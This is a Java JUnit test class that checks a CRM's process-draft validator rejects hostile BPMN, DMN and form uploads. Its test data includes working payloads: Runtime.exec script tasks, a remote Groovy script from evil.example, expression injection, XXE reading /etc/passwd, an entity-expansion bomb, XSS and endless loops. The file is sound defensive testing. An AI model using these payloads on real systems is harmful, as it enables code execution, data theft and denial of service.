package org.batoncrm.studio;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.Map;
import org.batoncrm.identity.Role;
import org.batoncrm.library.ProcessPack;
import org.batoncrm.testing.BatonTest;
import org.batoncrm.testing.People;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;

/** Drafts that want something else than a process: kept as text, refused by the check, harmless on the way. */
@BatonTest
class HostileDraftsTest {

    private static final String HEAD =
            "<b:definitions xmlns:b=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:camunda=\"http://camunda.org/schema/1.0/bpmn\""
                    + " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" id=\"D\" targetNamespace=\"x\"><b:process id=\"evil\" isExecutable=\"true\" camunda:historyTimeToLive=\"P1D\">"
                    + "<b:startEvent id=\"Start\" name=\"Begun\"/><b:sequenceFlow id=\"f1\" sourceRef=\"Start\" targetRef=\"T\"/>";
    private static final String TAIL =
            "<b:sequenceFlow id=\"f2\" sourceRef=\"T\" targetRef=\"End\"/><b:endEvent id=\"End\" name=\"Done\"/></b:process></b:definitions>";
    private static final String TASK =
            "<b:userTask id=\"T\" name=\"T\" camunda:candidateGroups=\"finance\">%s</b:userTask>";

    @Autowired
    People people;

    @Autowired
    Drafts drafts;

    @Autowired
    DraftCheck check;

    @Autowired
    DraftTranslations translations;

    private DraftReport report(String file, String content) {
        people.add("olga", Role.PROCESS_OWNER);
        people.add("finance", Role.FINANCE);
        return people.as("olga", () -> {
            long id = drafts.open(new ProcessPack("evil", Map.of(file, content)), null, null, null);
            translations.of(id);
            return check.check(id);
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<b:scriptTask id=\"T\" name=\"T\" scriptFormat=\"javascript\"><b:script>java.lang.Runtime.getRuntime().exec('id')</b:script></b:scriptTask>",
                "<b:scriptTask id=\"T\" name=\"T\" scriptFormat=\"groovy\" camunda:resource=\"http://evil.example/x.groovy\"/>",
                "<b:serviceTask id=\"T\" name=\"T\" camunda:class=\"java.lang.ProcessBuilder\"/>",
                "<b:serviceTask id=\"T\" name=\"T\" camunda:expression=\"${''.getClass().forName('java.lang.Runtime')}\"/>",
                "<b:serviceTask id=\"T\" name=\"T\" camunda:delegateExpression=\"${beanFactory.getBean('dataSource')}\"/>",
                "<b:serviceTask id=\"T\" name=\"T\" camunda:type=\"shell\"/>",
                "<b:serviceTask id=\"T\" name=\"T\" camunda:type=\"external\" camunda:topic=\"x\"/>",
                "<b:sendTask id=\"T\" name=\"T\" camunda:type=\"mail\"/>"
            })
    void refusesATaskThatRunsCode(String task) {
        assertThat(report("evil.bpmn", HEAD + task + TAIL).errors()).isPositive();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<b:extensionElements><camunda:executionListener event=\"start\" class=\"java.lang.Thread\"/></b:extensionElements>",
                "<b:extensionElements><camunda:taskListener event=\"create\" expression=\"${execution.getProcessEngine()}\"/></b:extensionElements>",
                "<b:extensionElements><camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"javascript\">1</camunda:script></camunda:executionListener></b:extensionElements>",
                "<b:extensionElements><camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector></b:extensionElements>",
                "<b:extensionElements><camunda:inputOutput><camunda:inputParameter name=\"a\"><camunda:script scriptFormat=\"groovy\">1</camunda:script></camunda:inputParameter></camunda:inputOutput></b:extensionElements>",
                "<b:documentation>${''.getClass()}</b:documentation>",
                "<b:multiInstanceLoopCharacteristics><b:loopCardinality>999999999</b:loopCardinality></b:multiInstanceLoopCharacteristics>",
                "<x:evil xmlns:x=\"http://evil.example\"/>"
            })
    void refusesWhatHangsOnAnInnocentTask(String inside) {
        assertThat(report("evil.bpmn", HEAD + TASK.formatted(inside) + TAIL).errors())
                .isPositive();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
                "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://127.0.0.1:1/evil.dtd\"><a/>",
                "<!DOCTYPE a [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\">]><a>&e;&e;&e;&e;</a>",
                "<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>",
                "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><a/>",
                "no xml at all",
                "",
                "<a><b></a>"
            })
    void refusesAFileThatIsNoDiagram(String content) {
        assertThat(report("evil.bpmn", content).errors()).isPositive();
        assertThat(ImportedFile.of("evil.bpmn", content.getBytes(java.nio.charset.StandardCharsets.UTF_8))
                        .name())
                .isEqualTo("evil.bpmn");
    }

    @Test
    void aFileAsDeepAsTheSeaIsRefusedAtOnce() {
        String deep = "<a>".repeat(100_000) + "</a>".repeat(100_000);
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(30),
                () -> assertThat(report("evil.bpmn", deep).errors()).isPositive());
    }

    @Test
    void aFormWithAPageInItIsRefused() {
        String form =
                "{\"id\":\"evil\",\"schemaVersion\":16,\"components\":[{\"type\":\"text\",\"id\":\"t\",\"text\":\"<img src=x onerror=alert(1)>\"},{\"type\":\"iframe\",\"id\":\"i\",\"url\":\"http://evil.example\"}]}";
        assertThat(report("evil.form", form).findings())
                .extracting(DraftFinding::rule)
                .contains("form.markup", "form.component");
        assertThat(report2("[".repeat(50_000)).errors()).isPositive();
    }

    private DraftReport report2(String form) {
        return people.as("olga", () -> {
            long id = drafts.open(new ProcessPack("evil", Map.of("evil.form", form)), null, null, null);
            return check.check(id);
        });
    }

    @Test
    void aTableThatCountsForEverIsRefused() {
        String table =
                "<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\" id=\"d\" name=\"d\" namespace=\"x\"><decision id=\"evil\" name=\"e\"><decisionTable id=\"t\"><output id=\"o\" name=\"x\"/>"
                        + "<rule id=\"r\"><outputEntry id=\"oe\"><text>count(for i in 1..1000000000 return i)</text></outputEntry></rule></decisionTable></decision></definitions>";
        assertThat(report("evil.dmn", table).findings())
                .extracting(DraftFinding::rule)
                .contains("feel");
    }

    @Test
    void translationsThatAreNoneAreNoReasonToFail() {
        people.add("olga", Role.PROCESS_OWNER);
        people.as("olga", () -> {
            long id = drafts.open(
                    new ProcessPack(
                            "evil",
                            Map.of("evil.bpmn", HEAD + TASK.formatted("") + TAIL, "evil_zh_CN.properties", "a=\\u12")),
                    null,
                    null,
                    null);
            assertThat(translations.of(id)).allMatch(DraftText::missing);
            assertThat(check.check(id).findings()).isNotEmpty();
        });
    }
}
